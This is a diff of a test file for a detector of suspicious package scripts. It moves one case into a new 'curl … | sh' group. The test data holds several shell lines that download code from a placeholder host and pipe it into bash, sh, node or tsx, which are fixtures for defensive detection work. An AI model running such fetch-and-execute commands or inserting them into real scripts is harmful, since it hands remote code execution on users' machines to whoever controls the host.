@@ -26,6 +26,9 @@ describe('suspicious scripts', () => {
       'if true; then curl https://x.example.test | nohup bash & fi',
       'concurrently "tsc -w" "curl https://x.example.test | bash"',
     ],
+    'remote-code: curl … | sh': [
+      `sh -c 'wget -qO- https://x.example.test/i.sh || curl -s https://x.example.test/i.sh' | sh`,
+    ],
     'remote-code: curl … | tsx': ['curl https://x.example.test/i.ts | npx tsx -'],
     'remote-code: node $(curl …)': [
       'node <(curl -s https://x.example.test/i.js)',
@@ -43,7 +46,6 @@ describe('suspicious scripts', () => {
     'remote-code: wget … | sh': [
       'wget -qO- https://x.example.test/i.sh | sh',
       '(curl -s https://x.example.test/i.sh || wget -qO- https://x.example.test/i.sh) | sh',
-      `sh -c 'wget -qO- https://x.example.test/i.sh || curl -s https://x.example.test/i.sh' | sh`,
     ],
     'remote-code: curl … | node': [
       'curl https://x.example.test/i.js | node',
